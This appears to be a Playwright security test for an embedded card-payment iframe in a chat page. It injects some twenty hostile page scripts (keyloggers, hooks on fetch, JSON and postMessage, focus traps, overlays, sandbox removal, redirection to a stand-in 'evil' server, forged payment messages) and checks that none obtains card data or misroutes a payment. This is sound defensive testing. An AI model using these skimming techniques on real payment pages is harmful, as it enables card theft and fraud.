import { listen } from '@consorcio/host/serving';
import type { ChatPage } from '../pages/chat-page';
import { aCard, cardNumbers } from '../pages/fixtures/cards';
import { openCardForm, paymentCalls } from '../pages/fixtures/payments';
import { cellsOf } from '../pages/fixtures/sample';
import { expect, isWhole, test } from '../serving/attack/attack-test';

// A script that runs in the page before ours, as a bad container would. It gets nothing of the card, and no payment goes elsewhere.

/** Nobody else in the conversation has these. */
const card = aCard({ numero: cardNumbers.approved, nome: 'ZULMIRA XISTO', codigo: '917', documento: '390.533.447-05' });
const secrets = /4242|zulmira|xisto|39053344705|122031/i;

/** What an attack has: everything it saw as text, and every key or text that it heard. `evil` is its own server. */
interface Attacker {
  readonly evil: string;
  readonly texts: string[];
  heard: string;
  take(...seen: readonly unknown[]): void;
  frame(): HTMLIFrameElement | null;
  proposal(): number;
  /** Calls `act` with each message between page and frame, before they get it. */
  tap(act: (message: Record<string, unknown>, send: (data: object) => void) => void): void;
}
declare global {
  interface Window {
    attacker: Attacker;
  }
}

/** Runs in the page before everything else. */
function prepare(evil: string): void {
  const native = JSON.stringify;
  const text = (value: unknown) => {
    try {
      return typeof value === 'string' ? value : (native(value) ?? String(value));
    } catch {
      return '';
    }
  };
  const attacker: Attacker = {
    evil,
    texts: [],
    heard: '',
    take: (...seen) => void attacker.texts.push(...seen.map(text)),
    frame: () => document.querySelector<HTMLIFrameElement>('dialog iframe'),
    proposal: () => Number(/propostaID\\*":(\d+)/.exec(native({ ...sessionStorage }))?.[1]),
    tap(act) {
      window.addEventListener(
        'message',
        ({ data, source, origin }) => {
          attacker.take(data);
          act(data, (sent) => (source as Window).postMessage({ nonce: data.nonce, ...sent }, origin));
        },
        true,
      );
    },
  };
  window.attacker = attacker;
}

const attacks: Readonly<Record<string, () => void>> = {
  'replaces what sends': () => {
    const { take } = window.attacker;
    const { fetch, XMLHttpRequest } = window;
    window.fetch = (...call) => {
      take(call);
      return fetch(...call);
    };
    const send = XMLHttpRequest.prototype.send;
    XMLHttpRequest.prototype.send = function (body) {
      take(body);
      send.call(this, body);
    };
    navigator.sendBeacon = (...call) => take(call) === undefined;
  },
  'replaces JSON and structured clones': () => {
    const { take } = window.attacker;
    for (const name of ['parse', 'stringify'] as const) {
      const native = JSON[name] as (...given: unknown[]) => never;
      JSON[name] = (...given: unknown[]) => {
        take(...given);
        return native(...given);
      };
    }
  },
  'replaces postMessage and the data of messages': () => {
    const { take } = window.attacker;
    for (const { prototype } of [MessagePort, BroadcastChannel, Worker]) {
      const native = prototype.postMessage as (...given: unknown[]) => void;
      prototype.postMessage = function (...given: unknown[]) {
        take(...given);
        native.apply(this, given);
      };
    }
    const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data')?.get;
    Object.defineProperty(MessageEvent.prototype, 'data', {
      get() {
        const value: unknown = data?.call(this);
        take(value);
        return value;
      },
    });
  },
  'replaces prototypes': () => {
    const { take } = window.attacker;
    const { includes } = String.prototype;
    const value = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
    Object.defineProperty(HTMLInputElement.prototype, 'value', {
      ...value,
      set(text) {
        take(text);
        value?.set?.call(this, text);
      },
    });
    const prototypes = [
      [String.prototype, ['replace', 'slice', 'split', 'trim', 'toUpperCase']],
      [Map.prototype, ['set']],
      [Set.prototype, ['add']],
      [RegExp.prototype, ['exec']],
    ] as const;
    for (const [prototype, names] of prototypes)
      for (const name of names) {
        const native = Reflect.get(prototype, name);
        Reflect.set(prototype, name, function (this: unknown, ...given: unknown[]) {
          if (includes.call(`${this}${given[0]}`, '4242')) take(`${this}${given[0]}`);
          return native.apply(this, given);
        });
      }
  },
  'replaces timers': () => {
    const { take } = window.attacker;
    for (const name of ['setTimeout', 'setInterval', 'requestAnimationFrame', 'queueMicrotask'] as const) {
      const native = window[name].bind(window) as (...given: unknown[]) => unknown;
      Reflect.set(window, name, (...given: unknown[]) => {
        take(String(given[0]), ...given.slice(1));
        return native(...given);
      });
    }
  },
  'listens to every event': () => {
    const types = ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'change', 'paste', 'copy', 'compositionend'];
    for (const type of types)
      window.addEventListener(
        type,
        (event) => {
          const { key, data, target } = event as KeyboardEvent & InputEvent;
          window.attacker.heard += `${key ?? ''}${data ?? ''}${(target as HTMLInputElement).value ?? ''}`;
        },
        true,
      );
  },
  'reads the frame': () => {
    const { take, frame } = window.attacker;
    const reads: readonly ((element: HTMLIFrameElement) => unknown)[] = [
      (element) => element.contentDocument?.documentElement.outerHTML,
      (element) => element.contentWindow?.document.body.innerHTML,
      (element) => element.contentWindow?.location.href,
      (element) => element.contentWindow?.name,
      (element) => Reflect.get(element.contentWindow ?? {}, 'elements'),
      () => Reflect.get(window, '0').document.forms,
      () => window.getSelection()?.toString(),
      () => performance.getEntries().map(({ name }) => name),
    ];
    setInterval(() => {
      const element = frame();
      for (const read of element ? reads : [])
        try {
          take(element && read(element));
        } catch {
          // refused
        }
    }, 50);
  },
  'takes the focus': () => {
    const { frame } = window.attacker;
    setInterval(() => {
      const dialog = frame()?.closest('dialog[open]');
      if (!dialog) return;
      const trap = dialog.querySelector<HTMLInputElement>('input') ?? document.createElement('input');
      if (!trap.isConnected) dialog.append(trap);
      trap.focus();
      window.attacker.heard += trap.value;
      trap.value = '';
    }, 40);
  },
  'takes the focus once a key was pressed, and gives it back': () => {
    const { frame } = window.attacker;
    let turn = 0;
    setInterval(() => {
      const dialog = frame()?.closest('dialog[open]');
      if (!dialog) return;
      const trap = dialog.querySelector<HTMLInputElement>('input') ?? document.createElement('input');
      if (!trap.isConnected) dialog.append(trap);
      turn += 1;
      if (turn % 2 === 0) trap.focus();
      else frame()?.focus();
      window.attacker.heard += trap.value;
      trap.value = '';
    }, 25);
  },
  'moves and covers the frame': () => {
    const { frame } = window.attacker;
    const cover = document.createElement('div');
    Object.assign(cover.style, { position: 'fixed', inset: '0', opacity: '0.01', zIndex: '9' });
    cover.addEventListener('keydown', ({ key }) => {
      window.attacker.heard += key;
    });
    cover.contentEditable = 'true';
    setInterval(() => {
      const element = frame();
      if (!element?.closest('dialog[open]')) return;
      element.style.transform = 'scale(0.98)';
      if (!cover.isConnected) element.parentElement?.append(cover);
      cover.style.display = cover.style.display === 'none' ? '' : 'none';
    }, 300);
  },
  'puts the frame into another place': () => {
    const { frame } = window.attacker;
    const timer = setInterval(() => {
      const element = frame();
      if (!element?.closest('dialog[open]')) return;
      clearInterval(timer);
      const parent = element.parentElement;
      document.body.append(element);
      parent?.append(element);
    }, 700);
  },
  'leads the frame to its own page': () => {
    const { frame, evil } = window.attacker;
    const timer = setInterval(() => {
      const element = frame();
      if (!element?.closest('dialog[open]')) return;
      clearInterval(timer);
      element.src = `${evil}/card.html`;
      element.contentWindow?.location.replace(`${evil}/card.html`);
    }, 700);
  },
  'writes its own page into the frame': () => {
    const { frame } = window.attacker;
    setInterval(() => {
      try {
        const element = frame();
        if (element?.closest('dialog[open]')) element.srcdoc = '<input onkeydown="parent.attacker.heard+=event.key">';
      } catch {
        // refused
      }
    }, 700);
  },
  'takes the sandbox off the frame': () => {
    setInterval(() => {
      window.attacker.frame()?.removeAttribute('sandbox');
    }, 20);
  },
  'opens a second frame, and speaks to it in our place': () => {
    const { frame, take } = window.attacker;
    const timer = setInterval(() => {
      const element = frame();
      if (!element?.closest('dialog[open]')) return;
      clearInterval(timer);
      const second = document.createElement('iframe');
      second.src = element.src;
      window.addEventListener('message', ({ source, data, origin }) => {
        if (source !== second.contentWindow) return;
        take(data);
        second.contentWindow?.postMessage(
          { ...window.attacker, type: 'show', nonce: data.nonce, isOpen: true },
          origin,
        );
        const api = { baseUrl: window.attacker.evil, apiKey: 'k', timeoutMs: 9000 };
        second.contentWindow?.postMessage({ type: 'pay', nonce: data.nonce, propostaId: 666, api }, origin);
      });
      element.parentElement?.append(second);
    }, 500);
  },
  'answers in the place of the frame': () => {
    const { frame, tap } = window.attacker;
    tap(({ type, nonce }) => {
      if (type !== 'busy') return;
      const { contentWindow: source, src } = frame() ?? {};
      const data = { type: 'refused', status: 402, nonce };
      window.dispatchEvent(
        new MessageEvent('message', { data, origin: new URL(src ?? '').origin, source: source ?? null }),
      );
    });
  },
  'sends the payment again and again': () => {
    const api = { baseUrl: location.origin, apiKey: 'k', timeoutMs: 9000 };
    const { tap, proposal } = window.attacker;
    tap((_message, send) => {
      for (const propostaId of [666, proposal()])
        for (let time = 0; time < 5; time += 1) send({ type: 'pay', propostaId, api, idempotencyKey: `k${time}` });
    });
  },
  'sends another amount': () => {
    const charge = { propostaID: 666, valorInCents: 1, valor: 'R$ 0,01' };
    const tema = { background: '#ffffff', primaryBackground: '#000000', primaryForeground: '#ffffff' };
    const shown = { isOpen: true, emAberto: false, processadora: '', isLocked: false, canClose: true };
    window.attacker.tap((_message, send) => send({ type: 'show', charge, theme: { tema, corners: 'soft' }, ...shown }));
  },
  'sends the address of another API': () => {
    const api = { baseUrl: window.attacker.evil, apiKey: 'k', timeoutMs: 9000 };
    const { tap, proposal } = window.attacker;
    tap(({ type }, send) => type === 'busy' && send({ type: 'pay', propostaId: proposal(), api }));
  },
};

test.describe.configure({ mode: 'default' }); // one process counts them
let digits = 0;
let played = 0;

for (const [what, attack] of cellsOf(Object.entries(attacks), isWhole ? 1 : 6)) {
  test(`a script that ${what} gets no digit, and no payment goes elsewhere`, async ({
    page,
    chat,
    stack,
    beginAt,
    watched,
  }) => {
    watched.expectLine(/./);
    watched.expectUncaught('');
    watched.expectFailedRequests(/./);
    const taken: string[] = [];
    const evil = await listen(({ method, url }, response) => {
      taken.push(`${method} ${url}`);
      response.writeHead(200, { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }).end('<p>');
    }, 0);
    await page.addInitScript(`if (window === top) { (${prepare})('http://localhost:${evil.port}'); (${attack})(); }`);
    await beginAt('payment-options');
    await payAsVisitor(chat).catch(() => undefined); // an attack may stand in the way

    const { texts, heard } = await page.evaluate(() => window.attacker);
    const proposal = await page.evaluate(() => window.attacker.proposal());
    const loot = `${texts.join(' ')} ${heard}`.replace(/[^\da-z]/gi, '');
    played += 1;
    digits += secrets.test(loot) || heard !== '' ? 1 : 0;
    expect(heard).toBe('');
    expect(loot).not.toMatch(secrets);
    expect(taken).toEqual([]);
    const { charges, posts } = await stack.sandbox.ledger();
    for (const { propostaID } of charges) expect(propostaID).toBe(proposal);
    expect(posts.filter(({ path }) => path === paymentCalls.cartao.path).length).toBeLessThanOrEqual(1);
    await evil.close();
  });
}

test.afterAll(() => console.log(`${digits} digits in ${played} attacks`));

/** Types the card and pays, if the form shows the amount of the conversation. */
async function payAsVisitor(chat: ChatPage): Promise<void> {
  await openCardForm(chat);
  const { number, holder, expiry, code, document, pay } = chat.card;
  await expect(pay).toHaveText('Pagar R$ 438,75', { timeout: 4000 });
  for (const [field, text] of [
    [number, card.numero],
    [holder, card.nome],
    [expiry, card.validade],
    [document, card.documento],
    [code, card.codigo],
  ] as const) {
    await field.tap({ timeout: 3000 });
    await chat.page.waitForTimeout(200); // as quick as a hand
    await chat.page.keyboard.type(text, { delay: 40 });
  }
  await chat.card.instalments(2).press(' ', { timeout: 3000 });
  await pay.press('Enter', { timeout: 3000 });
  await chat.page.getByText('Pagamento aprovado!').waitFor({ timeout: 8000 });
}
